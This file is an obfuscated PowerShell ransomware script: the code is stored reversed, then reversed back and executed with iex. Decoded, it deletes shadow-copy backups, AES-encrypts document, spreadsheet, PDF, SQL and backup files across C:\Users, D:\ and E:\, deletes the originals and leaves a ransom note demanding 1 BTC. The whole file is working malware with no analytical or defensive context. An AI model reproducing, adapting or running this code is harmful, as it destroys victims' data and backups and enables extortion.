$osjas='
''.meht erotser ot CTB 1 yaP .detpyrcne neeb evah selif ruoY'' txt.TPYRCED_OT_WOH\potkseD\cilbuP\sresU\:C tnetnoC-teS
}
ecroF- emaNlluF._$ metI-evomeR  
)cne$ ,''mosn4r.'' + emaNlluF._$(setyBllAetirW::]eliF.OI[  
)htgneL.setyb$ ,0 ,setyb$(kcolBlaniFmrofsnarT.)(rotpyrcnEetaerC.sea$ = cne$  
)emaNlluF._$(setyBllAdaeR::]eliF.OI[ = setyb$  
{ tcejbO-hcaEroF | eunitnoCyltneliS noitcArorrE- esruceR- kab.*,lqs.*,fdp.*,xslx.*,xcod.* edulcnI- sresU\:C ,\:E ,\:D htaP- metIdlihC-teG
))23,0(gnirtsbuS.''4202!dr0wss@P4202!dr0wss@P''(setyBteG.8FTU::]gnidocnE.txeT[ = yeK.sea$
)(etaerC::]seA.yhpargotpyrC.ytiruceS.metsyS[ = sea$
} )(eteleD._$ { tcejbO-hcaEroF | ypoCwodahS_23niW tcejbOimW-teG
teiuq/ lla/ swodahs eteled exe.nimdassv
1v 4835 tini #'.ToCharArray(); [array]::Reverse($osjas); iex (-join $osjas)